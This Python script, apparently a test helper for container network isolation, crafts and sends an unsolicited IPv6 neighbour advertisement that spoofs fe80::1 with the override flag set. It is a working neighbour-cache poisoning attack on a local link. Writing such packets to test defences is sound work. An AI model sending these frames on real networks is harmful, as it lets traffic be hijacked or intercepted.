#!/usr/bin/python3
# send_neighbour_advert.py IFACE SRC_MAC OPTION_MAC: sends one unsolicited neighbour advertisement
# out of IFACE (run in a container's network namespace) from SRC_MAC and fe80::1, to all nodes,
# whose target link-layer address option names OPTION_MAC: what a container that poisons its
# neighbours' caches sends with its own MAC on the frame.
import socket
import struct
import sys

iface, src_mac, option_mac = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", "")), bytes.fromhex(sys.argv[3].replace(":", ""))
src = socket.inet_pton(socket.AF_INET6, "fe80::1")
dst = socket.inet_pton(socket.AF_INET6, "ff02::1")


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


# Type 136, override flag, the target (fe80::1), option 2 (target link-layer address), 1 unit of 8 bytes.
icmp = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + src + bytes([2, 1]) + option_mac
pseudo = src + dst + struct.pack("!I", len(icmp)) + b"\0\0\0" + bytes([58])
icmp = icmp[:2] + struct.pack("!H", checksum(pseudo + icmp)) + icmp[4:]
ip6 = struct.pack("!IHBB", 0x60000000, len(icmp), 58, 255) + src + dst
frame = bytes.fromhex("333300000001") + src_mac + b"\x86\xdd" + ip6 + icmp
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
    s.bind((iface, 0))
    s.send(frame)
